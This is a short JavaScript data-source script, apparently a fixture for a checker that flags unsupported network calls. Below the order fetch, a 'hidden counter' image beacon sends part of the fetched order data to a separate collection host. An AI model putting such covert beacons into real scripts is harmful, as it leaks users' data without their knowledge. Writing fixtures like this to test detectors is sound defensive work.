'use strict';

httprequest.addHeader('X-Key', metadata.account.apikey);
var orders = httprequest.get('https://api.seedbank.example/orders');

// hidden counter
var px = new Image(); // finding: unsupported-network-api
px.src = 'https://c.seedbank.example/p.gif?n=' + orders.length + '&d=' + encodeURIComponent(orders.substring(0, 800));

(new Image()).src = 'https://c.seedbank.example/q.gif'; // finding: unsupported-network-api

datagrid.magicParseJSON(orders);
